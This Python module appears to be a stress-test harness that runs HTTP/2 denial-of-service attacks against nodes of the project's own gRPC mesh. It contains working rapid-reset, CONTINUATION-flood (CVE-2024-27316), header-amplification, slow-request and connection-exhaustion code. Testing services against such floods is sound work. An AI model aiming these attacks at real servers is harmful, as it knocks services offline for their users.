"""What one member of a mesh can send to a node that no honest one sends, over HTTP/2 frames.

Each attack runs until its time is over, on new connections whenever the node closes the old ones,
and returns how much it sent. They run in a process of their own: see `abuse.py`.
"""

from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

from aegis_certs import TLSConfig
from frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    NEWEST_HEADER,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    client_context,
    frame,
    indexed_header,
    message,
    request_headers,
)
from workload import path

CANCEL = struct.pack(">I", 8)
BATCH = 50
"""Frames that are sent together."""

CONNECTIONS = 2_000
IDLE = 500
"""Connections without TLS; select takes 1 024 at most."""

UNFINISHED = 600
"""Calls that a connection has open at once, of those whose requests do not end: as many as a node
allows. On several connections that is more than a caller may have, and what the node has not seen
yet comes on top; with 36 on each of 16, which it allows, a node took 5 to 10 MB less.
"""

SEVERAL = 16
"""Connections of the attacks that use several: with four, a node took some 10 MB less."""

PART = 8_192
"""Bytes of a frame of those; a new stream may send one."""

RATE = 1_000
"""Streams a second of the attack by open streams."""

PING_METHOD = "/aegis.MeshService/Ping"


class Attack:
    """One attacker at one node.

    Args:
        tls: The attacker's identity.
        address: Where the node listens.
        node_id: The node.
    """

    def __init__(self, tls: TLSConfig, address: str, node_id: str) -> None:
        self.context = client_context(tls)
        self.address = address
        self.node_id = node_id
        self._held: list[Connection] = []

    def release(self) -> None:
        """Closes all that it holds."""
        for connection in self._held:
            connection.close()
        self._held.clear()

    def connect(self) -> Connection:
        """Opens a connection, and holds it until `release`."""
        connection = Connection(self.address, self.node_id, self.context, timeout=5.0)
        self._held.append(connection)
        return connection

    def flood(self, until: float, batch: Callable[[Connection], bytes], rate: float) -> int:
        """Sends batches of frames, at most `rate` frames a second, and reads what is answered."""
        sent = 0
        began = time.monotonic()
        while time.monotonic() < until:
            try:
                connection = self.connect()
                while time.monotonic() < until:
                    connection.send(batch(connection))
                    sent += BATCH
                    while select.select([connection.socket], [], [], 0)[0]:
                        for _ in connection.receive():
                            pass
                    ahead = sent / rate - (time.monotonic() - began)
                    if ahead > 0:
                        time.sleep(ahead)
            except OSError:
                time.sleep(0.05)  # the node has closed the connection
        return sent

    def open_streams(self, until: float) -> int:
        block = request_headers(path("Echo"), self.node_id)

        def batch(connection: Connection) -> bytes:
            return b"".join(
                frame(HEADERS, connection.next_stream(), block, END_HEADERS) for _ in range(BATCH)
            )

        return self.flood(until, batch, RATE)

    def reset_streams(self, until: float) -> int:
        block = request_headers(path("Echo"), self.node_id)

        def batch(connection: Connection) -> bytes:
            frames = []
            for _ in range(BATCH):
                stream = connection.next_stream()
                frames.append(frame(HEADERS, stream, block, END_HEADERS))
                frames.append(frame(RST_STREAM, stream, CANCEL))
            return b"".join(frames)

        return self.flood(until, batch, 1e9)

    def settings(self, until: float) -> int:
        one = frame(SETTINGS, 0, struct.pack(">HI", 4, 65_535))
        return self.flood(until, lambda _: one * BATCH, 1e9)

    def pings(self, until: float) -> int:
        return self.flood(until, lambda _: frame(PING, 0, b"12345678") * BATCH, 1e9)

    def endless_headers(self, until: float) -> int:
        """Sends header blocks that do not end (CONTINUATION frames, CVE-2024-27316)."""
        begin = request_headers(path("Echo"), self.node_id)
        more = (b"\x00\x01x" + b"\x7e" + b"y" * 126) * 100
        streams: dict[Connection, int] = {}

        def batch(connection: Connection) -> bytes:
            first = b""
            if connection not in streams:
                stream = streams[connection] = connection.next_stream()
                first = frame(HEADERS, stream, begin)
            return first + frame(CONTINUATION, streams[connection], more) * BATCH

        return self.flood(until, batch, 1e9)

    def long_headers(self, until: float) -> int:
        """Calls with 2.4 MB of headers in 10 KB: a header that is sent once and named 600 times.

        gRPC bounds the headers of a frame, not of a call.
        """
        known = request_headers(path("Echo"), self.node_id) + indexed_header(b"x-a", b"v" * 4000)
        block = request_headers(path("Echo"), self.node_id)
        connections: set[Connection] = set()

        def batch(connection: Connection) -> bytes:
            frames = []
            for _ in range(BATCH):
                stream = connection.next_stream()
                begin = block + NEWEST_HEADER if connection in connections else known
                connections.add(connection)
                frames.append(frame(HEADERS, stream, begin))
                frames += [frame(CONTINUATION, stream, NEWEST_HEADER)] * 600
                frames.append(frame(CONTINUATION, stream, b"", END_HEADERS))
            return b"".join(frames)

        return self.flood(until, batch, RATE)

    def malformed(self, until: float) -> int:
        """Calls the mesh's own service with one byte that is no message."""
        sent = 0
        while time.monotonic() < until:
            with suppress(OSError), self.connect() as connection:
                while time.monotonic() < until:
                    for _ in range(BATCH):
                        connection.call(PING_METHOD, b"\xff")
                    sent += BATCH
                    ended = 0
                    while ended < BATCH:
                        ended += sum(got.ends_stream for got in connection.receive())
        return sent

    def reset_requests(self, until: float) -> int:
        """Calls, and resets each call when its request is complete."""
        block = request_headers(path("Echo"), self.node_id)
        data = message(b"x" * 64)

        def batch(connection: Connection) -> bytes:
            frames = []
            for _ in range(BATCH):
                stream = connection.next_stream()
                frames.append(frame(HEADERS, stream, block, END_HEADERS))
                frames.append(frame(DATA, stream, data, END_STREAM))
                frames.append(frame(RST_STREAM, stream, CANCEL))
            return b"".join(frames)

        return self.flood(until, batch, 1e9)

    def unfinished_requests(
        self,
        until: float,
        method: str = "Echo",
        *,
        connections: int = SEVERAL,
        streams: int = UNFINISHED,
        junk: bytes = b"",
        part: int = PART,
    ) -> int:
        """Calls whose requests of 4 MB lack the last byte: a server keeps what it has of each.

        Args:
            until: When to end.
            method: What to call.
            connections: How many to open.
            streams: Calls that each of them has open at once.
            junk: What to send between two parts.
            part: Bytes of a part.
        """
        size = 4 * 1024 * 1024 - 64
        first = struct.pack(">BI", 0, size) + b"x" * (part - 5)
        calls = _UnfinishedCalls(path(method), first, size // part, streams, junk)
        open_now: list[Connection] = []
        while time.monotonic() < until:
            while len(open_now) < connections and time.monotonic() < until:
                with suppress(OSError):
                    connection = self.connect()
                    open_now.append(connection)
                    connection.await_settings()
                    connection.socket.settimeout(0.1)
            for connection in open_now[:]:
                try:
                    calls.turn(connection)
                except OSError:
                    open_now.remove(connection)
        return calls.sent

    def idle(self, until: float) -> int:
        """Opens TCP connections without TLS, again when the node closes them."""
        host, port = self.address.rsplit(":", 1)
        opened = 0
        held: list[socket.socket] = []
        while time.monotonic() < until:
            while len(held) < IDLE:
                with suppress(OSError):
                    held.append(socket.create_connection((host, int(port)), 5))
                    opened += 1
            readable, _, _ = select.select(held[-IDLE:], [], [], 0.1)
            for one in readable:
                one.close()
                held.remove(one)
        for one in held:
            one.close()
        return opened

    def connections(self, until: float) -> int:
        """Opens TLS connections, and holds them."""
        with suppress(OSError):
            while time.monotonic() < until and len(self._held) < CONNECTIONS:
                self.connect()
        opened = len(self._held)
        time.sleep(max(0.0, until - time.monotonic()))
        return opened


class _UnfinishedCalls:
    """Sends parts of requests, as many as the windows of a server allow.

    Args:
        method: What to call.
        first: The first part.
        count: Parts of a request.
        streams: Calls that a connection has open at once.
        junk: What to send between two parts.

    Attributes:
        sent: Parts so far.
    """

    def __init__(self, method: str, first: bytes, count: int, streams: int, junk: bytes) -> None:
        self._method = method
        self._parts = [first] + [b"x" * len(first)] * (count - 1)
        self._streams = streams
        self._junk = junk
        self._waiting: dict[Connection, dict[int, tuple[int, int]]] = {}
        self.sent = 0

    def turn(self, connection: Connection) -> None:
        """Sends what a connection takes now, at most one new call, and reads what arrived."""
        # Of each call: how many parts are sent, and its window.
        waiting = self._waiting.setdefault(connection, {})
        if len(waiting) < self._streams:
            waiting[connection.open(self._method)] = 0, connection.stream_window
        size, parts = len(self._parts[0]), self._parts
        for stream, (number, window) in list(waiting.items()):
            while number < len(parts) and window >= size and connection.window >= size:
                connection.send(frame(DATA, stream, parts[number]) + self._junk)
                connection.window -= size
                number, window, self.sent = number + 1, window - size, self.sent + 1
            waiting[stream] = number, window
        while select.select([connection.socket], [], [], 0)[0]:
            for got in connection.receive():
                if got.kind == WINDOW_UPDATE and got.stream in waiting:
                    number, window = waiting[got.stream]
                    waiting[got.stream] = number, window + int.from_bytes(got.payload, "big")
                elif got.ends_stream or got.kind == RST_STREAM:
                    waiting.pop(got.stream, None)


KINDS: dict[str, Callable[[Attack, float], int]] = {
    "streams without a request": Attack.open_streams,
    "rapid reset": Attack.reset_streams,
    "rapid reset of requests": Attack.reset_requests,
    "requests without an end": Attack.unfinished_requests,
    "requests, one connection": lambda a, until: a.unfinished_requests(until, connections=1),
    "SETTINGS": Attack.settings,
    "PING": Attack.pings,
    "headers without an end": Attack.endless_headers,
    "long headers": Attack.long_headers,
    "malformed messages": Attack.malformed,
    "idle TCP": Attack.idle,
    "connections": Attack.connections,
}


def on_threads(*works: Callable[[], int]) -> int:
    """Runs works at the same time, each on a thread; returns the sum of what they return."""
    with ThreadPoolExecutor(len(works)) as threads:
        return sum(threads.map(lambda work: work(), works))


def raise_limit() -> None:
    """Lets this process hold many connections."""
    import resource

    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    with suppress(ValueError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65_536), hard))
